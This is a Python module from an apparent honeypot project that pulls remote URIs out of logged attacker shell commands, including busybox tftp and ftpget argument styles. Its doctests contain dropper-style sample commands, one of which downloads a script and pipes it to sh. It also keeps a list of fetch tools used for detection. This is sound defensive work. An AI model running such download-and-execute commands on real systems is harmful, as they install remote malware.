"""URI extraction from shell command lines.

The honeyfarm records a URI whenever a command references a remote resource:
anything retrieved via FTP, HTTP(S), TFTP, SCP, etc.  This module implements
that detection both for explicit URLs and for the tool-specific host/file
argument styles used by common droppers (``tftp -g``, ``ftpget``).
"""

from __future__ import annotations

import re
from typing import List

from repro.honeypot.shell.parser import split_words

_URL_RE = re.compile(
    r"""(?:https?|ftp|tftp)://[^\s'"`;|<>]+""",
    re.IGNORECASE,
)

#: Tools whose presence makes a bare host/path argument a remote reference.
_FETCH_TOOLS = {"wget", "curl", "tftp", "ftpget", "ftp", "scp", "sftp"}


def _tokenize(command: str) -> List[str]:
    try:
        return split_words(command)
    except ValueError:
        return command.split()


#: Extraction memo — URI detection is a pure function of the command text
#: and scripted sessions repeat the same lines; callers get fresh lists.
_URI_CACHE: dict = {}
_URI_CACHE_MAX = 8192


def extract_uris(command: str) -> List[str]:
    """All remote-resource URIs referenced by a command line.

    >>> extract_uris("wget http://198.51.100.7/bins.sh; sh bins.sh")
    ['http://198.51.100.7/bins.sh']
    >>> extract_uris("tftp -g -r mips 203.0.113.9")
    ['tftp://203.0.113.9/mips']
    """
    cached = _URI_CACHE.get(command)
    if cached is None:
        if len(_URI_CACHE) >= _URI_CACHE_MAX:
            _URI_CACHE.clear()
        cached = _extract_uris_uncached(command)
        _URI_CACHE[command] = cached
    return list(cached)


def _extract_uris_uncached(command: str) -> List[str]:
    uris = list(dict.fromkeys(_URL_RE.findall(command)))
    # A fetch tool can only lead the argv if its name appears in the text
    # at all — skip tokenising the (vast) majority of lines that name none.
    if not any(tool in command for tool in _FETCH_TOOLS):
        return uris
    tokens = _tokenize(command)
    if not tokens:
        return uris
    tool = tokens[0].rsplit("/", 1)[-1]
    if tool not in _FETCH_TOOLS:
        return uris
    if tool == "tftp":
        uri = _tftp_uri(tokens)
        if uri and uri not in uris:
            uris.append(uri)
    elif tool == "ftpget":
        uri = _ftpget_uri(tokens)
        if uri and uri not in uris:
            uris.append(uri)
    elif tool in {"scp", "sftp"}:
        for token in tokens[1:]:
            if ":" in token and "/" in token.split(":", 1)[1] and not token.startswith("-"):
                uri = f"scp://{token.replace(':', '/', 1)}"
                if uri not in uris:
                    uris.append(uri)
    return uris


def _tftp_uri(tokens: List[str]) -> str:
    """tftp [-g] [-l local] [-r remote] host -- busybox style."""
    remote = ""
    host = ""
    i = 1
    while i < len(tokens):
        tok = tokens[i]
        if tok == "-r" and i + 1 < len(tokens):
            remote = tokens[i + 1]
            i += 2
        elif tok == "-l" and i + 1 < len(tokens):
            i += 2
        elif tok.startswith("-"):
            i += 1
        else:
            host = tok
            i += 1
    if host:
        return f"tftp://{host}/{remote}" if remote else f"tftp://{host}/"
    return ""


def _ftpget_uri(tokens: List[str]) -> str:
    """ftpget [-u user] [-p pass] host local remote -- busybox style."""
    positional = []
    i = 1
    while i < len(tokens):
        tok = tokens[i]
        if tok in {"-u", "-p", "-P"} and i + 1 < len(tokens):
            i += 2
        elif tok.startswith("-"):
            i += 1
        else:
            positional.append(tok)
            i += 1
    if not positional:
        return ""
    host = positional[0]
    remote = positional[2] if len(positional) >= 3 else (
        positional[1] if len(positional) >= 2 else ""
    )
    return f"ftp://{host}/{remote}" if remote else f"ftp://{host}/"


def has_uri(command: str) -> bool:
    """True when the command references at least one remote resource."""
    return bool(extract_uris(command))
